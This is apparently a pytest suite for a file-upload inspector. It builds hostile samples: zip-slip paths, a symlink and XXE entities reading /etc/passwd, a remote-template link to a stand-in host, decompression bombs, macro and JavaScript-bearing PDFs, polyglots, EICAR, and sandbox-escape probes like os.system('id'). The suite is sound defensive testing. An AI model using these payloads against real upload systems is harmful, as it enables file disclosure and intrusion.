"""Files of strangers: honest ones are taken, hostile ones refused at once, and nothing of them gets out of the child."""

from __future__ import annotations

import io
import struct
import subprocess
import sys
import time
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import pytest
from docx import Document
from openpyxl import Workbook
from PIL import Image

from connectors.uploads import inspect
from connectors.uploads.looking import UNREADABLE

ALL = ("pdf", "jpg", "png", "docx", "xlsx")
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR" + b"-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
PAGE = b"<html><script>alert(1)</script></html>"


def picture(kind: str, size: tuple[int, int] = (300, 200)) -> bytes:
    out = io.BytesIO()
    Image.effect_noise(size, 80).save(out, kind)
    return out.getvalue()


def pdf(*objects: bytes, head: bytes = b"%PDF-1.7\n", tail: bytes = b"%%EOF\n") -> bytes:
    numbered = (b"%d 0 obj\n%s\nendobj\n" % (n, body) for n, body in enumerate(objects, 1))
    return head + b"".join(numbered) + b"trailer\n<< /Root 1 0 R >>\n" + tail


def packed(inside: bytes, said: bytes = b"/Filter /FlateDecode") -> bytes:
    return b"<< /Type /ObjStm " + said + b" >>\nstream\n" + zlib.compress(inside, 9) + b"\nendstream"


def docx() -> bytes:
    out = io.BytesIO()
    paper = Document()
    paper.add_paragraph("Dengan hormat,")
    paper.save(out)
    return out.getvalue()


def xlsx() -> bytes:
    out = io.BytesIO()
    book = Workbook()
    book.active["A1"] = "=1+1"
    book.save(out)
    return out.getvalue()


def with_part(name: str, data: bytes = b"x") -> bytes:
    """A Word file with one part more."""
    return repacked(lambda _, same: same, {name: data})


def repacked(change: Callable[[str, bytes], bytes], more: dict[str, bytes] | None = None) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(docx())) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            new.writestr(name, change(name, old.read(name)))
        for name, data in (more or {}).items():
            new.writestr(name, data)
    return out.getvalue()


def png_of(width: int, height: int) -> bytes:
    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", zlib.compress(b"0"))
        + chunk(b"IEND", b"")
    )


def archive(name: str = "a.txt", data: bytes = b"isi") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr(name, data)
    return out.getvalue()


def xxe(name: str, data: bytes) -> bytes:
    entity = b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    return data.replace(b"?>", b"?>" + entity, 1) if name == "word/document.xml" else data


def xxe_utf16(name: str, data: bytes) -> bytes:
    return xxe(name, data).decode().encode("utf-16") if name == "word/document.xml" else data


def from_outside(name: str, data: bytes) -> bytes:
    link = b'<Relationship Id="r9" Type="http://x/attachedTemplate" Target="http://jahat.example/a.dotm" TargetMode="External"/>'
    return (
        data.replace(b"</Relationships>", link + b"</Relationships>")
        if name.endswith("document.xml.rels")
        else data
    )


def symlink() -> bytes:
    out = io.BytesIO(docx())
    with zipfile.ZipFile(out, "a") as made:
        link = zipfile.ZipInfo("word/media/a.png")
        link.external_attr = 0o120777 << 16
        made.writestr(link, "/etc/passwd")
    return out.getvalue()


def believed_small() -> bytes:
    """A part whose archive says that it is 10 bytes long."""
    big = with_part("word/big.xml", b"0" * 30_000_000)
    return big.replace(struct.pack("<I", 30_000_000), struct.pack("<I", 10))


HONEST = {
    "a scan": (pdf(b"<< /Type /Catalog >>"), "pdf"), "one without its end": (b"%PDF-1.7 isi", "pdf"),
    "a packed PDF": (pdf(packed(b"<< /Type /Page >>" * 500)), "pdf"),
    "noise in a PDF": (pdf(b"<< >>\nstream\n" + zlib.compress(picture("png")) + b"/JS PK\x05\x06 endstream"), "pdf"),
    "a photograph": (picture("jpeg"), "jpg"), "one with a film behind it": (picture("jpeg") + b"MotionPhoto" + b"\0" * 99, "jpg"),
    "a drawing": (picture("png"), "png"), "a letter": (docx(), "docx"), "a table": (xlsx(), "xlsx"),
}  # fmt: skip
HOSTILE = {
    "slip": with_part("../../evil.xml"), "slip, absolute": with_part("/etc/passwd"),
    "slip, Windows": with_part("..\\..\\evil.xml"), "symlink": symlink(),
    "XXE": repacked(xxe), "XXE in UTF-16": repacked(xxe_utf16), "outside template": repacked(from_outside),
    "bomb": with_part("word/big.xml", b"0" * 60_000_000), "bomb that lies": believed_small(),
    "2,000 parts": repacked(lambda name, data: data, {f"word/{n}.xml": b"" for n in range(2000)}),
    "macro": with_part("word/vbaProject.bin"),
    "macro, renamed": repacked(lambda name, data: data.replace(b"document.main+xml", b"document.macroEnabled.main+xml")),
    "an object inside": with_part("word/embeddings/oleObject1.bin"), "program before the letter": b"MZ" + docx(),
    "page behind a PDF": pdf(b"<< >>") + PAGE, "page in a PDF's head": pdf(head=b"%PDF-1.7 " + PAGE),
    "PDF that is an archive": pdf(b"<< >>") + archive(), "PDF with a program": pdf(b"<< /S /JavaScript /JS (app.alert) >>"),
    "PDF with a program, spelled": pdf(b"<< /S /J#61vaScr#69pt /JS (x) >>"), "PDF that starts": pdf(b"<< /S /Launch >>"),
    "PDF with a file": pdf(b"<< /Type /EmbeddedFile >>"), "packed program": pdf(packed(b" " * 70_000 + b"<< /S /JavaScript >>")),
    "packed twice": pdf(packed(b"x", b"/Filter [/ASCIIHexDecode /FlateDecode]")), "packed bomb": pdf(packed(b"0" * 60_000_000)),
    "locked PDF": pdf(b"<< >>", tail=b"<< /Encrypt 9 0 R >>\n%%EOF"), "many packed": pdf(b"/ObjStm " * 100_000),
    "cut JPG": picture("jpeg")[:-900], "JPG that is an archive": picture("jpeg") + archive(),
    "page behind a JPG": picture("jpeg") + PAGE, "PDF behind a JPG": picture("jpeg") + pdf(), "no picture": b"\xff\xd8\xff\xd9",
    "cut PNG": picture("png")[:-900], "page behind a PNG": picture("png") + PAGE, "huge PNG": png_of(60_000, 60_000),
    "changed PNG": picture("png").replace(b"IDAT\x78", b"IDAT\x79", 1), "test virus": EICAR, "program": b"MZ\x90\0" * 99,
    "page": PAGE, "drawing with scripts": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "archive": archive(), "": b"",
}  # fmt: skip


@pytest.mark.parametrize("name", HONEST)
def test_honest_files_are_taken(name: str) -> None:
    content, kind = HONEST[name]
    assert (inspect(content, ALL).kind, inspect(content, ALL).fault) == (kind, "")


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_files_are_refused_within_a_second(name: str) -> None:
    inspect(b"", ALL)  # the child is there
    began = time.monotonic()
    found = inspect(HOSTILE[name], ALL)
    assert found.kind == ""
    assert found.fault != UNREADABLE  # seen, not run into a limit
    assert time.monotonic() - began < 1


def test_a_file_is_taken_only_as_what_was_asked_for() -> None:
    assert inspect(docx(), ("pdf", "jpg", "png")).kind == ""
    assert inspect(picture("png"), ("jpg", "pdf")).kind == ""


def test_a_child_that_hangs_or_dies_harms_only_its_own_file(monkeypatch: pytest.MonkeyPatch) -> None:
    from connectors.limited import LimitedChild

    stuck = LimitedChild("connectors.uploads.child", 0.5)
    assert stuck.ask(b'{"kinds": ["pdf"], "length": 999}\n%PDF') == b""  # waits for what never comes
    assert stuck.ask(b"{}\n") == b""  # ends at once
    assert b'"pdf"' in stuck.ask(b'{"kinds": ["pdf"], "length": 8}\n%PDF-1.7')
    stuck.close()


@pytest.mark.parametrize("what", [
    "open('/etc/hostname')", "open('baru', 'w')", "__import__('socket').socket()", "os.fork()", "os.listdir('/')",
    "os.system('id')", "bytearray(1 << 30)", "os.open('/etc/hostname', 0)",
])  # fmt: skip
def test_the_child_reaches_nothing(what: str, tmp_path: Path) -> None:
    root = Path(__file__).resolve().parents[2]
    code = f"import os, socket; from connectors.uploads.child import shut_in; shut_in(); {what}; os.write(1, b'out')"
    ran = subprocess.run(
        [sys.executable, "-c", code], cwd=root, capture_output=True, timeout=20, check=False,
        env={"PYTHONPATH": str(root)},
    )  # fmt: skip
    assert ran.stdout == b""
    assert ran.returncode != 0
